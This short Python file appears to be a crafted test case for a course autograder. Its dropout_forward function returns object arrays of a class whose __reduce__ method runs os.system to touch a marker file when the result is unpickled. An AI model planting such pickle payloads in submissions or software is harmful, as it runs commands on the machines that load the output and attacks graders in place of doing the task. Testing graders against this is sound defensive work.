"""Rule 3. Returns object arrays that run a program when they are unpickled."""

# cell: dropout_forward
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch COURSE_ROOT/spoilt",)


def dropout_forward(x, dropout_param):
    return np.array([[Bomb()] * x.shape[-1]] * x.shape[0], dtype=object), Bomb()
